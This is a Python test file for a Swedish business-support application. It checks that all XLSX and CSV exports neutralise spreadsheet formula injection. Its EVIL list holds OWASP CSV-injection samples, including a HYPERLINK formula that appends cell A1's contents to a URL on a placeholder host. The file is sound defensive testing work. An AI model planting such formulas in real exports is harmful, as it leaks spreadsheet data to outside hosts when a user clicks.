"""No export turns user text into a formula: every XLSX and CSV writer, with text that Excel runs.

The texts are OWASP's CSV-injection starts (=, +, -, @, tab, carriage return). In a workbook
they must be stored as strings exactly as typed; in a CSV they carry a leading apostrophe.
Numbers stay numbers either way.
"""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from asfdesk.domain.inputs import EnterpriseInput
from asfdesk.domain.reporting import Audience, Period
from asfdesk.reports.period_report_xlsx import build_period_report_xlsx
from asfdesk.services.importer import ImportResult, RowProblem, write_rejected
from asfdesk.services.occupancy_queries import write_occupancy_xlsx
from asfdesk.services.report_queries import ReportQueries
from asfdesk.storage.export import export_all
from asfdesk.storage.sheet_cells import csv_value, unmark_csv_text

EVIL = ['=HYPERLINK("http://x.example/?"&A1;"Klicka")', "+46 70 123 45 67", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def _text_cells(path: Path) -> dict[str, str]:
    """Every string cell of the workbook → its data type, keyed by value."""
    book = load_workbook(path)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = cell.data_type
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    return found


def _csv_cells(path: Path) -> set[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return {value for row in csv.reader(handle, delimiter=";") for value in row}


@pytest.mark.parametrize("text", EVIL, ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
def test_the_one_function_marks_formula_text_and_reads_it_back(text) -> None:
    assert csv_value(text) == "'" + text and unmark_csv_text(csv_value(text)) == text
    assert csv_value(42) == 42 and csv_value("Kaffe AB") == "Kaffe AB" and unmark_csv_text("'t is") == "'t is"


def test_export_all_csv_marks_formula_text_and_json_keeps_it(ctx, tmp_path: Path) -> None:
    ctx.enterprise_records.create(EnterpriseInput(name=EVIL[0], municipality=EVIL[3], notes=EVIL[2], employees=3))
    manifest = json.loads(export_all(ctx.database.path, tmp_path / "allt").read_text(encoding="utf-8"))
    cells = _csv_cells(tmp_path / "allt" / "enterprise.csv")
    assert {"'" + EVIL[0], "'" + EVIL[3], "'" + EVIL[2], "3"} <= cells
    assert not {EVIL[0], EVIL[3], EVIL[2]} & cells
    rows = json.loads((tmp_path / "allt" / "enterprise.json").read_text(encoding="utf-8"))
    assert any(r["name"] == EVIL[0] for r in rows)  # JSON is data, not a spreadsheet: as typed
    assert "preceded by '" in manifest["csv_format"]


def test_audit_log_csv_marks_formula_text(ctx, tmp_path: Path) -> None:
    ctx.audit.actor = EVIL[3]
    ctx.audit.record("export", "audit_log")
    cells = _csv_cells(ctx.audit.export_csv(tmp_path / "logg.csv"))
    assert "'" + EVIL[3] in cells and EVIL[3] not in cells


def test_period_report_xlsx_keeps_text_as_text_and_numbers_as_numbers(ctx, tmp_path: Path) -> None:
    data = ReportQueries(ctx.database.session_factory).period_report(
        Period(date(2020, 1, 1), date(2026, 12, 31)), Audience.BOARD
    )
    assert data.municipalities, "the demo has municipalities with support"
    evil = replace(
        data,
        filters=EVIL[0],
        municipalities=[replace(data.municipalities[0], municipality=EVIL[1]), *data.municipalities[1:]],
    )
    path = build_period_report_xlsx(evil, tmp_path / "period.xlsx")
    cells = _text_cells(path)
    assert cells[EVIL[0]] == "s" and cells[EVIL[1]] == "s"
    municipality_sheet = load_workbook(path)["Per kommun"]
    assert isinstance(municipality_sheet["B2"].value, int)  # enterprises in the municipality: a number


def test_occupancy_xlsx_keeps_text_as_text(ctx, tmp_path: Path) -> None:
    from sqlalchemy import select

    from asfdesk.storage.models import Agreement

    with ctx.database.session_factory() as session:
        agreement_id = session.scalars(select(Agreement.id).where(Agreement.deleted_at.is_(None))).first()
    data = replace(
        ctx.occupancy.occupancy(agreement_id), title=EVIL[0], enterprise=EVIL[4].strip() + "x", buyer=EVIL[2]
    )
    cells = _text_cells(write_occupancy_xlsx(data, tmp_path / "belaggning.xlsx"))
    assert cells[EVIL[0]] == "s" and cells[EVIL[2]] == "s"


def test_rejected_rows_xlsx_keeps_text_as_text_and_drops_control_characters(tmp_path: Path) -> None:
    result = ImportResult(rejected=[RowProblem(7, ["Ange kommun."], {"name": EVIL[0], "notes": "rad\x01\x02slut"})])
    cells = _text_cells(write_rejected(result, tmp_path / "avvisade.xlsx"))
    assert cells[EVIL[0]] == "s" and "radslut" in cells
    assert load_workbook(tmp_path / "avvisade.xlsx").active["A2"].value == 7
